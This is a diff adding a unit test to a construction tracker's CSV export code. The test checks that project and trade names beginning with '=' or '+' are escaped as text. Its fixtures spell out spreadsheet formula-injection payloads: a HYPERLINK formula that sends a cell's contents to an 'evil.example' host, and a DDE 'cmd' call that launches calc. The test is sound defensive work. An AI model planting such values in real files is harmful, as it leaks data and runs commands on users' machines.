@@ -31,6 +31,23 @@ describe('tracker exports', () => {
     expect(toCsv({ columns: [{ title: 'Trade', kind: 'text' }], rows: [['5/8" board, Type X']] })).toBe('Trade\r\n"5/8"" board, Type X"\r\n');
   });
 
+  it('CSV: a project or trade name that would run as a formula is written as text (docs/architecture.md §5.2); negative figures stay numbers', () => {
+    const o = overall();
+    const hostile = overall({
+      projects: [
+        { ...o.projects[0], projectName: '=HYPERLINK("http://evil.example/?"&A1,"Open")' },
+        { ...o.projects[1], projectName: "=cmd|' /C calc'!A0" },
+      ],
+    });
+    const lines = toCsv(overallTrackerTable(hostile)).split('\r\n');
+    expect(lines[1]).toMatch(/^DC_1007,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""Open""\)",/);
+    expect(lines[2]).toMatch(/^DC_1009,"'=cmd\|' \/C calc'!A0",/);
+    const t = tracker();
+    const trades = toCsv(projectTrackerTable({ ...t, rows: [{ ...t.rows[0], trade: '+1+cmd|x', part: null, position: null }] }));
+    expect(trades.split('\r\n')[1]).toMatch(/^09-2900,"'\+1\+cmd\|x",48200\.00,/);
+    expect(trades.split('\r\n')[1]).toContain(',-21000.00,');
+  });
+
   it('workbook cells: text cells, number cells with money and percent formats equal to the figures', () => {
     const sheet = toSheetRows(projectTrackerTable(tracker()));
     expect(sheet[0][2]).toEqual({ t: 's', v: 'Final Run' });
